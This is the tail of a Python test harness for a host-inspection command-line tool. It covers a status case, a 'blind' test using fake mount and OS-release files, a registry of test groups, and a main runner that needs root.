            lab.case(f"status, checkpoint {bad}, {form}", words, codes=(2,), says=f"/of/good.*pass-{bad}.json|pass-{bad}.json.*/of/good")


def blind(lab):
    """Nothing is said to be found where nothing was looked at."""
    files_of_host = {
        "proc/self/mountinfo": "22 1 8:1 / / rw,relatime - ext4 /dev/sda1 rw\n23 22 0:40 / /data rw,relatime - btrfs /dev/sdb rw\n",
        "etc/os-release": "ID=debian\n",
    }
    root = root_with(lab, "blind", files_of_host)
    for form in ["text", "markdown", "html"]:
        for more in [[], ["-v"]]:
            words = ["check", "--root", root, "--format", form, *more]
            lab.case(f"blind {form} {more}", words, says="[Nn]ot looked at", absent=["Nothing found here"])


GROUPS = {
    "special": files.special, "credentials": files.credentials, "tls": tls.tls, "proxies": tls.proxies,
    "status": status, "blind": blind, "mounts": mounts, "experiments": experiments.experiments,
    "users": users, "bundles": bundles, "archives": archives, "names": names, "histories": histories,
    "states": states, "servers": hostile_servers, "threads": threads,
    "lists": lambda lab: plans.lists(lab, FORGED, ESCAPES), "trees": lambda lab: plans.trees(lab, FORGED),
    "mutated": mutated,
}


def main():
    if len(sys.argv) < 2 or os.geteuid() != 0:
        sys.exit(__doc__)
    own_mounts()
    lab = Lab(sys.argv[1])
    try:
        for name in sys.argv[2:] or GROUPS:
            GROUPS[name](lab)
    finally:
        shutil.rmtree(lab.dir, ignore_errors=True)
        lab.report()
    sys.exit(bool(lab.fell))


if __name__ == "__main__":
    main()
